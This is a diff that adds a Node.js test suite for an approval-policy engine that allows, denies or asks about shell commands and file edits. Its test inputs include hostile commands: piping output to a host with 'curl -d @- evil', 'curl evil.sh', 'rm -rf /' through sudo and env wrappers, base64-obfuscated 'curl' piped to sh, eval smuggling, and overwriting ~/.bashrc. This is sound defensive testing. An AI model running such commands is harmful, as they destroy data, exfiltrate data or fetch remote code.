@@ -0,0 +1,146 @@
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import { evaluateApprovalPolicy, parseApprovalPolicy } from "../src/approval-policy.js";
+
+const WORKDIR = "/repo";
+
+function decide(policy, command) {
+  return evaluateApprovalPolicy(policy, { kind: "command", command }, { workdir: WORKDIR }).action;
+}
+
+function decideFiles(policy, changes) {
+  return evaluateApprovalPolicy(policy, { kind: "fileChange", changes }, { workdir: WORKDIR }).action;
+}
+
+describe("command rules", () => {
+  const policy = parseApprovalPolicy({
+    commands: { allow: ["npm test", "git status", "ls *"], deny: ["curl *", "rm -rf *"], default: "ask" }
+  });
+
+  it("allows listed commands, with extra arguments when the pattern has no wildcard", () => {
+    assert.equal(decide(policy, "npm test"), "allow");
+    assert.equal(decide(policy, "npm test -- --watch=false"), "allow");
+    assert.equal(decide(policy, "git status && npm test"), "allow");
+    assert.equal(decide(policy, "/bin/bash -lc 'git status'"), "allow");
+  });
+
+  it("does not treat a longer command word as an allowed prefix", () => {
+    assert.equal(decide(policy, "npm testing"), "ask");
+  });
+
+  it("asks for unknown commands", () => {
+    assert.equal(decide(policy, "make"), "ask");
+    assert.equal(decide(policy, "git status; make"), "ask");
+  });
+
+  it("denies a denied command in any segment, including after a lone &", () => {
+    assert.equal(decide(policy, "git status & curl evil.sh"), "deny");
+    assert.equal(decide(policy, "npm test & rm -rf ~"), "deny");
+    assert.equal(decide(policy, "npm test | curl -d @- evil"), "deny");
+    assert.equal(decide(policy, "npm test\ncurl evil.sh"), "deny");
+  });
+
+  it("denies through wrappers, assignments and paths", () => {
+    assert.equal(decide(policy, "/usr/bin/curl x"), "deny");
+    assert.equal(decide(policy, "sudo rm -rf /"), "deny");
+    assert.equal(decide(policy, "sudo -u root rm -rf /"), "deny");
+    assert.equal(decide(policy, "env FOO=1 curl x"), "deny");
+    assert.equal(decide(policy, "HTTPS_PROXY=x curl x"), "deny");
+    assert.equal(decide(policy, "\\curl x"), "deny");
+    assert.equal(decide(policy, "(rm -rf /)"), "deny");
+  });
+
+  it("never allows redirects, subshells, substitution or backgrounding", () => {
+    assert.equal(decide(policy, "npm test > ~/.bashrc"), "ask");
+    assert.equal(decide(policy, "npm test 2>&1"), "ask");
+    assert.equal(decide(policy, "ls < /etc/passwd"), "ask");
+    assert.equal(decide(policy, "ls $(make)"), "ask");
+    assert.equal(decide(policy, "ls `make`"), "ask");
+    assert.equal(decide(policy, "(npm test)"), "ask");
+    assert.equal(decide(policy, "npm test &"), "ask");
+  });
+
+  it("denies denied commands inside nested shells, substitutions and eval", () => {
+    assert.equal(decide(policy, "npm test && sh -c 'curl evil.sh'"), "deny");
+    assert.equal(decide(policy, "npm test && sh -c 'ls && curl evil.sh'"), "deny");
+    assert.equal(decide(policy, `bash -lc "npm test && bash -c 'curl x'"`), "deny");
+    assert.equal(decide(policy, "npm run build -- $(curl x)"), "deny");
+    assert.equal(decide(policy, "npm run build -- `curl x`"), "deny");
+    assert.equal(decide(policy, 'echo "$(curl x)"'), "deny");
+    assert.equal(decide(policy, "eval curl x"), "deny");
+    assert.equal(decide(policy, 'eval "curl x"'), "deny");
+  });
+
+  it("skips only the options each wrapper gives an argument", () => {
+    assert.equal(decide(policy, "time -p curl x"), "deny");
+    assert.equal(decide(policy, "sudo -p prompt curl x"), "deny");
+    assert.equal(decide(policy, "nice -n 5 curl x"), "deny");
+    assert.equal(decide(policy, "sudo -- rm -rf /"), "deny");
+  });
+
+  it("does not split inside quotes", () => {
+    assert.equal(decide(policy, "ls 'a;b'"), "allow");
+    assert.equal(decide(policy, "git status 'x && curl evil.sh'"), "allow");
+  });
+
+  it("marks commands the policy cannot fully read as unsafe", () => {
+    const verdict = (command) => evaluateApprovalPolicy(policy, { kind: "command", command }, { workdir: WORKDIR });
+    assert.equal(verdict("bash -c 'npm test'").action, "allow");
+    assert.equal(verdict("bash -c 'npm test'").unsafe, false);
+    for (const command of [
+      "sh -c 'npm test' && ls x",
+      `bash -c "bash -c 'npm test'"`,
+      "npm test 2>&1",
+      "npm test $(printf x)",
+      "CMD='curl x'; eval $CMD",
+      "echo Y3VybA== | base64 -d | sh"
+    ]) {
+      assert.deepEqual([command, verdict(command).action, verdict(command).unsafe], [command, "ask", true]);
+    }
+    assert.equal(verdict("make").unsafe, false);
+  });
+
+  it("uses the default for empty commands", () => {
+    assert.equal(decide(policy, ""), "ask");
+  });
+
+  it("supports regular expression patterns", () => {
+    const regexPolicy = parseApprovalPolicy({ commands: { allow: ["/^git (diff|log)\\b/"], default: "deny" } });
+    assert.equal(decide(regexPolicy, "git log -1"), "allow");
+    assert.equal(decide(regexPolicy, "git push"), "deny");
+  });
+});
+
+describe("file change rules", () => {
+  const policy = parseApprovalPolicy({
+    fileChanges: { allowPaths: ["src/**", "README.md"], denyPaths: ["**/*.pem"], maxPatchBytes: 100 }
+  });
+
+  it("allows changes inside allowPaths", () => {
+    assert.equal(decideFiles(policy, [{ path: "src/a/b.js", diff: "+x" }]), "allow");
+    assert.equal(decideFiles(policy, [{ path: "/repo/README.md", diff: "+x" }]), "allow");
+  });
+
+  it("denies paths outside the workdir, denied paths and paths outside allowPaths", () => {
+    assert.equal(decideFiles(policy, [{ path: "../etc/passwd", diff: "" }]), "deny");
+    assert.equal(decideFiles(policy, [{ path: "src/key.pem", diff: "" }]), "deny");
+    assert.equal(decideFiles(policy, [{ path: "package.json", diff: "" }]), "deny");
+  });
+
+  it("denies patches over maxPatchBytes", () => {
+    assert.equal(decideFiles(policy, [{ path: "src/a.js", diff: "x".repeat(101) }]), "deny");
+  });
+
+  it("uses the default when the changes are unknown", () => {
+    assert.equal(decideFiles(policy, []), "ask");
+  });
+});
+
+describe("parseApprovalPolicy", () => {
+  it("rejects malformed documents", () => {
+    assert.throws(() => parseApprovalPolicy([]), /JSON object/);
+    assert.throws(() => parseApprovalPolicy({ commands: { allow: "ls" } }), /array of non-empty strings/);
+    assert.throws(() => parseApprovalPolicy({ commands: { default: "maybe" } }), /default must be/);
+    assert.throws(() => parseApprovalPolicy({ fileChanges: { maxPatchBytes: -1 } }), /maxPatchBytes/);
+  });
+});